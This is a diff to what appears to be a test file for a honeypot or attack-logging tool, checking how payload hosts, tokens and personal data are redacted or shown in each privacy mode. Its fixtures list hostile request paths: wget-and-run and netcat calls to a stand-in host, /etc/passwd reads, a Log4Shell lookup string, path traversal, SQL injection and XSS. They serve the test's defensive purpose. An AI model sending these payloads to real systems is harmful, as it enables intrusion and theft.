@@ -46,6 +46,7 @@ VERSION = "sqlmap/1.8.2"
 # What a payload fetches its next part from.
 PAYLOAD = "198.51.100.23"
 PAYLOAD_V6 = "2001:db8:77::abc1"
+PAYLOADS = (PAYLOAD, PAYLOAD_V6, PAYLOAD_V6.replace(":", "%3A"))
 # Numbers are searched with what people put between digits taken out.
 BETWEEN = b" -.()/+\\\"'"
 
@@ -90,7 +91,7 @@ def logs():
         f"/.env?token={BEARER}&to=%2B34-600-987-123",
         "/.env?to=600%20987%20123", "/.env?to=%2B34+600+98+71+23",
         f"/shell?cd+/tmp;wget+http://{PAYLOAD}/x;sh+x", f"/shell?nc%20{PAYLOAD}%20444",
-        f"/shell?wget+http://[{PAYLOAD_V6}]:8080/x;sh+x", "/shell?wget+http%3A%2F%2F%5B" + PAYLOAD_V6.replace(":", "%3A") + "%5D/x;sh+x",
+        f"/shell?wget+http://[{PAYLOAD_V6}]:8080/x;sh+x", f"/shell?wget+http%3A%2F%2F%5B{PAYLOADS[2]}%5D/x;sh+x",
         "/shell.php?cmd=cat%20/etc/passwd", "/?x=${jndi:ldap://a.example/x}", "/?q=<script>alert(1)</script>", "/.git/config",
         "/cgi-bin/.%2e/.%2e/bin/sh", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?id=1'%20OR%201=1--",
     ]  # fmt: skip
@@ -126,8 +127,7 @@ def forbidden(senders, clients):
     people = [("a message", WORDS), ("a password", PASSWORD), ("an e-mail address", PERSON), ("a token", BEARER), ("a link", LINK)]
     addresses = {"full": [], "prefix": [CLIENT, PLAYER], "hash": [CLIENT, PLAYER, NETWORK]}[clients]
     hidden = secrets + (people if senders != "full" else []) + [("an address", address) for address in addresses]
-    payloads = [PAYLOAD, PAYLOAD_V6, PAYLOAD_V6.replace(":", "%3A")]
-    hidden += [("an address in a payload", payload) for payload in payloads] if senders != "full" and clients != "full" else []
+    hidden += [("an address in a payload", payload) for payload in PAYLOADS] if senders != "full" and clients != "full" else []
     return [(what, text.encode()) for what, text in hidden], senders != "full"
 
 
@@ -173,7 +173,7 @@ class Search:
         if NUMBER.encode() in plain and self.hides_number and NUMBER not in by_design:
             found.add("a number")
         self.leaks += [f"{self.mode}: {where} tells {what}" for what in sorted(found)]
-        for text in (WORDS, PASSWORD, PERSON, BEARER, LINK, CLIENT, NETWORK, CD_KEY, PAYLOAD, VERSION):
+        for text in (WORDS, PASSWORD, PERSON, BEARER, LINK, CLIENT, NETWORK, CD_KEY, *PAYLOADS, VERSION):
             self.seen |= {(where, text)} if text.encode() in out else set()
         self.seen |= {(where, NUMBER)} if NUMBER.encode() in plain else set()
 
@@ -266,7 +266,7 @@ def run(folder, senders, clients, running):
             done = subprocess.run(command, capture_output=True, env=environment, check=True)
             # Whoever wants a request or a login explained sees what was asked for, as it stands in the log.
             shown = (PASSWORD, PERSON, BEARER, NUMBER) if words[0] == "explain" and name in ("web", "json", "ssh") else ()
-            shown += (PAYLOAD,) if shown else ()
+            shown += PAYLOADS if shown else ()
             search.look(f"{' '.join(words)} of {form}", done.stdout + done.stderr, shown)
     return search
 
@@ -275,7 +275,7 @@ def expect_shown(search, senders, clients):
     """What a mode allows must have been seen, or the search finds nothing."""
     feed, attacks, pushed = "/api/v1/feed?limit=500", "/api/v1/attacks?limit=500", "what was pushed"
     wanted = [(place, VERSION) for place in (feed, attacks, pushed, f"/api/v1/clients/{CLIENT}", "/api/v1/attacks?by=class")]
-    wanted += [(attacks, PAYLOAD), (feed, PAYLOAD)] if clients == "full" or senders == "full" else []
+    wanted += [(place, payload) for place in (attacks, feed) for payload in PAYLOADS] if clients == "full" or senders == "full" else []
     if senders == "full":
         wanted += [(feed, NUMBER), (feed, WORDS), (pushed, WORDS), (pushed, NUMBER), (attacks, PASSWORD), (attacks, PERSON), (attacks, BEARER)]
         wanted += [("/api/v1/errors", NUMBER), ("/api/v1/errors", LINK), ("/api/v1/errors", PERSON), (feed, PASSWORD), ("explain of whatsapp_bot", WORDS)]
